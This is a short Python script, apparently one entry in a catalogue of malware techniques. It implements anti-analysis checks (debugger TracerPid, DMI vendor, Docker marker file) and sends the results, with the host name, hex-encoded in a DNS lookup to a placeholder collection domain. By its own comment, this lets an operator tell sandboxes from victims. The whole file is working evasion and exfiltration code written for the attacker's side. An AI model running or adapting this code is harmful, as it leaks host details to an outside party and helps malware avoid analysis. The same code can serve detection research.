# P15 in Python: the debugger and VM checks of analysis-aware samples — TracerPid in
# /proc/self/status, the DMI vendor, /.dockerenv — sent home hex-encoded in a DNS name together
# with the host name, so the operator can tell sandboxes from victims.
import os, socket
def read(path):
    try:
        return open(path).read()
    except OSError:
        return ""
tracer = [l.split()[1] for l in read("/proc/self/status").splitlines() if l.startswith("TracerPid:")]
vendor = read("/sys/class/dmi/id/sys_vendor").strip()
docker = os.path.exists("/.dockerenv")
info = f"{socket.gethostname()}|{tracer[0] if tracer else '?'}|{vendor}|{int(docker)}".encode().hex()
try:
    socket.getaddrinfo(f"{info[:60]}.{info[60:120] or '0'}.probe.collect.invalid", 80)
except OSError:
    pass
